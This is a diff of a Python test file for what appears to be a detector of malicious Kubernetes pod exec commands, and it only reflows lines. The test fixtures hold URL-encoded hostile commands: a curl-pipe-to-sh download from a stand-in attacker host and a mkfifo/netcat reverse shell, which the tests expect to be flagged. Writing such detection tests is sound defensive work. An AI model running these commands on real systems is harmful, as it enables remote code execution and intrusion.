@@ -52,7 +52,8 @@ CASES: list[tuple[str, str, set[str], str | None]] = [
     ),
     (
         "python client curl https piped to sh",
-        POD + "?command=%2Fbin%2Fsh&command=-c&command=curl+https%3A%2F%2Fevil.example%2Fx.sh+%7C+sh"
+        POD
+        + "?command=%2Fbin%2Fsh&command=-c&command=curl+https%3A%2F%2Fevil.example%2Fx.sh+%7C+sh"
         "&container=app&stderr=True&stdin=False&stdout=True&tty=False",
         {CURL_WGET},
         "/bin/sh -c curl https://evil.example/x.sh | sh",
@@ -107,7 +108,8 @@ CASES: list[tuple[str, str, set[str], str | None]] = [
     (
         # The reverse-shell exclusion: /dev/tcp/localhost/8080 is a local health check.
         "local /dev/tcp health check is excluded",
-        POD + "?command=bash&command=-c&command=echo+%3E+%2Fdev%2Ftcp%2Flocalhost%2F8080&container=a"
+        POD
+        + "?command=bash&command=-c&command=echo+%3E+%2Fdev%2Ftcp%2Flocalhost%2F8080&container=a"
         "&stdout=true",
         set(),
         None,
@@ -122,7 +124,8 @@ CASES: list[tuple[str, str, set[str], str | None]] = [
     ),
     (
         "mkfifo reverse shell",
-        POD + "?command=sh&command=-c&command=rm+%2Ftmp%2Ff%3Bmkfifo+%2Ftmp%2Ff%3Bcat+%2Ftmp%2Ff%7Csh"
+        POD
+        + "?command=sh&command=-c&command=rm+%2Ftmp%2Ff%3Bmkfifo+%2Ftmp%2Ff%3Bcat+%2Ftmp%2Ff%7Csh"
         "+-i+2%3E%261%7Cnc+203.0.113.9+4444+%3E%2Ftmp%2Ff&container=a&stdout=true",
         {REVERSE_SHELL},
         "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2> 1|nc 203.0.113.9 4444 >/tmp/f",
